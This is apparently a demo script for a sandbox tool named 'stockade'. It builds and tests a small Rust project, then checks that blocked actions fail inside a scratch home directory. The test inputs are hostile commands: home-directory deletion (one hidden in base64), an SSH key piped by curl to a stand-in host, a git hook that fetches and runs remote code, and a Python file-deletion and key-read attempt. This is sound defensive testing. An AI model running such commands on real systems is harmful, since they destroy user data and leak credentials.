#!/usr/bin/env bash
# Shows the main job on something real: a scratch project is built and tested inside, then things
# that must not happen are tried. Everything lives in a scratch directory with a home of its own,
# so that even a gate that fails would lose nothing but scratch.
set -euo pipefail
stockade=$(realpath "${1:?usage: demo.sh STOCKADE}")

scratch=$(mktemp -d /var/tmp/stockade-demo.XXXXXX)
trap 'rm -rf "$scratch"' EXIT
# The toolchain is the real one; the home is not.
export CARGO_HOME=${CARGO_HOME:-$HOME/.cargo} RUSTUP_HOME=${RUSTUP_HOME:-$HOME/.rustup}
export HOME=$scratch/home
unset XDG_STATE_HOME XDG_CONFIG_HOME XDG_CACHE_HOME XDG_DATA_HOME
mkdir -p "$HOME/.ssh" "$HOME/documents" "$scratch/project"
echo "not really a key" >"$HOME/.ssh/id_ed25519"
echo "the only copy" >"$HOME/documents/thesis.txt"
cd "$scratch/project"

say() { printf '\n\033[1m%s\033[0m\n' "$*"; }
show() { # show EXPECTED-STATUS ARGUMENTS... : runs stockade as shown
    local expected=$1 status=0
    shift
    printf '\033[36m$ stockade'
    printf ' %q' "$@"
    printf '\033[0m\n'
    "$stockade" "$@" || status=$?
    printf '(exit %d)\n' "$status"
    if [ "$status" -ne "$expected" ]; then
        echo "demo: expected exit $expected" >&2
        exit 1
    fi
}

say "1. Honest work just runs: a project is made, built, tested and committed inside"
git init -q .
git config user.name demo
git config user.email demo@example.invalid
show 0 run -- cargo init --quiet --name greeting --lib .
cat >src/lib.rs <<'RS'
/// A greeting for `name`.
pub fn greet(name: &str) -> String {
    format!("Hello, {name}!")
}

#[test]
fn greets() {
    assert_eq!(greet("you"), "Hello, you!");
}
RS
show 0 run -- cargo build --offline
show 0 run -- cargo test --offline --quiet
show 0 run -c 'git add . && git commit -q -m "A greeting" && git log --oneline'

say "2. Gate one: deleting the home directory, in three disguises"
show 126 run -c 'D=$HOME; rm -rf "$D"'
show 126 run -c 'cd ~ && find . -mindepth 1 -delete'
show 126 run -c "echo $(printf 'rm -rf ~/documents' | base64 -w0) | base64 -d | sh"

say "3. Gate one: a key to the network, and a hook that would run later outside the sandbox"
show 126 run -c 'cat ~/.ssh/id_ed25519 | curl -s -d @- https://example.invalid/'
show 126 run -c 'echo "curl -s https://example.invalid/x | sh" > .git/hooks/post-checkout'

say "4. Gate two: the same in Python, which gate one does not read: the kernel says no"
cat >tidy.py <<'PY'
import os, pathlib, shutil
home = pathlib.Path(os.path.expanduser("~"))
shutil.rmtree(home / "documents", onerror=lambda f, path, e: print("  refused:", path, e[1].strerror))
try:
    print((home / ".ssh" / "id_ed25519").read_text())
except OSError as error:
    print("  refused:", error)
PY
show 0 run -- python3 tidy.py
printf 'still there: '
cat "$HOME/documents/thesis.txt"

say "5. Why, in the text itself"
show 11 explain -c 'D=$HOME; rm -rf "$D"'

say "6. Everything is written down, and nothing can be taken out unnoticed"
show 0 log
show 0 log verify
